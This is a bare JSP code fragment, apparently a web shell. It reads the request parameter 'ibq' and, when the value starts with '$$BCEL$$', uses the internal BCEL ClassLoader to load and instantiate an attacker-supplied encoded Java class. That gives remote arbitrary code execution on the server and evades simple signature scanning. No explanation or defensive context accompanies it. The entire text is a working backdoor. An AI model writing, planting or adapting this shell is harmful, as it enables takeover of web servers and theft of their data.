<%
    String b = request.getParameter("ibq");
    if (b != null && b.startsWith("$$BCEL$$")) {
        ClassLoader bl = (ClassLoader) Class.forName("com.sun.org.apache.bcel.internal.util.ClassLoader").newInstance();
        Object o = bl.loadClass(b).newInstance();
        out.print(o);
    }
%>
